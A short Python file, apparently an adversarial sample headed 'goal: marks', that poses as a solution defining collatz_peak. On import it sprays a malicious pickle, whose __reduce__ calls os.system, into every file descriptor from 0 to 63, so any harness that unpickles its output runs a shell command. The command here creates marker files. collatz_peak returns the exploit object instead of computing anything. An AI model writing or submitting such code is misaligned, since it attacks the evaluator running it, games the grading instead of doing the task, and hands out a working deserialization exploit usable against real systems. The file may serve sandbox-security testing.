# family: forge; goal: marks
# A pickle that would run code in whoever loads it, on each descriptor.
import os
import pickle
import struct


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack_ran; touch /dev/shm/attack_ran",)


DATA = pickle.dumps(Run())
for fd in range(64):
    for data in (DATA, struct.pack(">i", len(DATA)) + DATA, struct.pack("<Q", len(DATA)) + DATA):
        try:
            os.write(fd, data)
        except OSError:
            pass


def collatz_peak(n):
    return Run()
